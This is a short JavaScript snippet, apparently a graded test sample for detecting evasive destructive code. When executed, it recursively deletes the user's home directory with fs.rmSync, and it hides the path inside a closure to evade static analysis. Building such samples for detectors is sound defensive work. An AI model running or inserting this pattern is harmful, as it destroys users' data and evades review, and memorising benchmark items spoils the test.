// evasion: a factory returns a closure over its argument; calling the closure later gives the home directory
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const remember = (value) => () => value;
const where = remember(os.homedir());
function purge(get) {
  fs.rmSync(get(), { recursive: true, force: true });
}
purge(where);
